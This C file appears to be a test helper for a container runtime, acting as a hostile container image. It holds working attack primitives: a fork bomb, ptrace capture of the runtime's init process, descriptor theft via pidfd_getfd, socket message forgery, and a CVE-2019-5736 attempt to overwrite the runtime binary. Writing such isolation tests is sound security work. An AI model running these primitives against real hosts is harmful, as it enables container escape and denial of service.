/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a hostile image does, as a program; static, and linked with nothing of ours.
 *
 *   hostile exchange A B    exchanges two names without end (renameat2(2))
 *   hostile watch SECONDS   waits until a process of the runtime shows up in
 *                           /proc, tries all that could be had of it, and
 *                           prints one line of JSON about it
 *   hostile forge SECONDS   waits for the same, and sends messages in its name
 *   hostile fill            makes processes until no more can be made, and waits
 *   hostile keep            traces the next process that comes, ends it, and does
 *                           not let go of it
 *   hostile parent PROGRAM...
 *                           becomes the program, as the parent of a process that
 *                           no signal tells the end of
 *
 *   hostile thread          goes on without its first thread
 *
 * Each says a word when it has begun, for a test to wait for.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/fs.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#	define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#	define SYS_pidfd_getfd 438
#endif

/* What the runtime's processes are called in the container (LAUNCH_NAME in libcontainer/launch.h).
 */
#define VICTIM "kogg:[init]\n"

/* How many processes may come before one is caught. */
#define NUMBERS_KEPT 50

static const struct timespec pause_time = { .tv_nsec = 1000000 };

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void say(const char *line)
{
	puts(line);
	fflush(stdout);
}

static int exchange(const char *a, const char *b)
{
	bool has_begun = false;

	for (;;) {
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 &&
			errno != ENOENT) {
			perror("renameat2");
			return 1;
		}
		if (!has_begun)
			say("begun");
		has_begun = true;
	}
}

static __attribute__((noreturn)) void wait_for_the_end(void)
{
	for (;;)
		pause();
}

static int fill(void)
{
	pid_t pid;

	while ((pid = fork()) > 0)
		;
	if (pid < 0)
		say("full");
	wait_for_the_end();
}

/* Whoever gets one of the next numbers, before he takes a step; ours is the last that was given. */
static int parent(char **argv)
{
	if (syscall(SYS_clone, 0, NULL, NULL, NULL, NULL) == 0)
		wait_for_the_end();
	execv(argv[0], argv);
	perror(argv[0]);
	return 1;
}

static const char *name_of(int result)
{
	return result < 0 ? strerrorname_np(errno) : "ok";
}

static bool is_victim(const char *pid)
{
	char path[64], name[32] = "";
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%.20s/comm", pid);
	fd = open(path, O_RDONLY);
	n = fd < 0 ? -1 : read(fd, name, sizeof(name) - 1);
	close(fd);
	return n > 0 && strcmp(name, VICTIM) == 0;
}

/* Traces PID and ends it, if that is the runtime's still and not yet the program. */
static bool catch (pid_t pid)
{
	char number[16];
	int status;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return false;
	snprintf(number, sizeof(number), "%d", (int)pid);
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 &&
		waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
		if (is_victim(number) && kill(pid, SIGKILL) == 0)
			return true;
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	errno = ESRCH;
	return false;
}

static int keep(void)
{
	pid_t last = fork(), victim = last;

	if (last == 0)
		_exit(0);
	while (waitpid(last, NULL, 0) < 0)
		;
	say("watching");
	do {
		victim = victim < last + NUMBERS_KEPT ? victim + 1 : last + 1;
		if (catch (victim))
			wait_for_the_end();
	} while (errno == ESRCH || errno == EPERM); /* nobody yet, or no longer */
	perror("ptrace");
	return 1;
}

static int find_victim(double deadline)
{
	while (now() < deadline) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			if (isdigit((unsigned char)entry->d_name[0]) && is_victim(entry->d_name)) {
				int pid = (int)strtol(entry->d_name, NULL, 10);

				closedir(dir);
				return pid;
			}
		}
		if (dir)
			closedir(dir);
		nanosleep(&pause_time, NULL);
	}
	return -1;
}

static void try_open(const char *key, int pid, const char *file, int flags)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, file);
	fd = open(path, flags);
	printf("\"%s\":\"%s\",", key, name_of(fd));
	close(fd);
}

static void read_link(const char *key, int pid, const char *file)
{
	char path[64], target[PATH_MAX] = "";
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, file);
	n = readlink(path, target, sizeof(target) - 1);
	printf("\"%s\":\"%s\",", key, n < 0 ? strerrorname_np(errno) : target);
}

/* Every descriptor, and whether it leads to a file of the host. */
static void list_descriptors(int pid)
{
	char path[64], target[PATH_MAX];
	const char *comma = "";
	struct dirent *entry;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	dir = opendir(path);
	printf("\"may_list\":\"%s\",\"fds\":{", name_of(dir ? 0 : -1));
	while (dir && (entry = readdir(dir))) {
		ssize_t n = readlinkat(dirfd(dir), entry->d_name, target, sizeof(target) - 1);

		if (n < 0)
			continue;
		target[n] = '\0';
		printf("%s\"%s\":\"%s\"", comma, entry->d_name, target);
		comma = ",";
	}
	if (dir)
		closedir(dir);
	printf("},");
}

/* Sets of capabilities, as the kernel writes them (proc(5), "status"). */
static void list_capabilities(int pid)
{
	char path[64], line[256], set[4], value[32];
	FILE *status;

	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	status = fopen(path, "r");
	while (status && fgets(line, sizeof(line), status))
		if (sscanf(line, "Cap%3[A-Za-z]: %31s", set, value) == 2)
			printf("\"Cap%s\":\"%s\",", set, value);
	if (status)
		fclose(status);
}

static void take_descriptor(int pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0), taken = -1;

	for (int fd = 0; pidfd >= 0 && fd < 64 && taken < 0; fd++) {
		taken = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
		if (taken < 0 && errno != EBADF)
			break;
	}
	printf("\"getfd\":\"%s\",", name_of(taken));
	close(taken);
	close(pidfd);
}

static void read_memory(int pid)
{
	char byte;
	struct iovec here = { &byte, 1 }, there = { (void *)0x400000, 1 };
	long n = process_vm_readv(pid, &here, 1, &there, 1, 0);

	/* EFAULT: it may, but there is nothing. */
	printf("\"memory\":\"%s\",", n < 0 && errno != EFAULT ? strerrorname_np(errno) : "ok");
}

/* CVE-2019-5736: held open until the runtime is gone, then opened for writing. */
static void write_executable(int pid, double deadline)
{
	char path[64];
	int held, fd = -1;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	held = open(path, O_PATH);
	printf("\"exe_held\":\"%s\",", name_of(held));
	if (held < 0) {
		printf("\"exe_write\":\"%s\"", strerrorname_np(errno));
		return;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	do {
		fd = open(path, O_WRONLY);
		nanosleep(&pause_time, NULL);
	} while (fd < 0 && errno == ETXTBSY && now() < deadline);
	printf("\"exe_write\":\"%s\"", name_of(fd));
}

/* Takes the sockets of the runtime's process and says something in its name. */
static int forge(const char *seconds)
{
	double deadline = now() + strtod(seconds, NULL);
	int pidfd, pid;

	say("watching");
	pid = find_victim(deadline);
	pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	for (int fd = 3; fd < 64; fd++) {
		int taken = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (taken >= 0 && send(taken, "forged", 6, MSG_NOSIGNAL) == 6)
			say("forged");
		close(taken);
	}
	wait_for_the_end();
}

static int watch(const char *seconds)
{
	double deadline = now() + strtod(seconds, NULL);
	int pid;

	say("watching");
	pid = find_victim(deadline);
	if (pid < 0) {
		say("{}");
		return 1;
	}
	printf("{\"pid\":%d,", pid);
	take_descriptor(pid);
	read_memory(pid);
	list_descriptors(pid);
	list_capabilities(pid);
	read_link("root", pid, "root");
	read_link("cwd", pid, "cwd");
	read_link("exe", pid, "exe");
	try_open("maps", pid, "maps", O_RDONLY);
	try_open("environ", pid, "environ", O_RDONLY);
	try_open("mem", pid, "mem", O_RDWR);
	write_executable(pid, deadline);
	say("}");
	wait_for_the_end();
}

static void *go_on(void *unused)
{
	(void)unused;
	say("threads");
	wait_for_the_end();
}

static int leave_thread(void)
{
	pthread_t thread;

	if (pthread_create(&thread, NULL, go_on, NULL))
		return 1;
	pthread_exit(NULL);
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "exchange") == 0)
		return exchange(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "watch") == 0)
		return watch(argv[2]);
	if (argc == 3 && strcmp(argv[1], "forge") == 0)
		return forge(argv[2]);
	if (argc == 2 && strcmp(argv[1], "fill") == 0)
		return fill();
	if (argc == 2 && strcmp(argv[1], "keep") == 0)
		return keep();
	if (argc > 2 && strcmp(argv[1], "parent") == 0)
		return parent(argv + 2);
	if (argc == 2 && strcmp(argv[1], "thread") == 0)
		return leave_thread();
	fprintf(stderr, "usage: hostile exchange A B | watch SECONDS | forge SECONDS | fill | "
			"keep | parent PROGRAM... | thread\n");
	return 2;
}
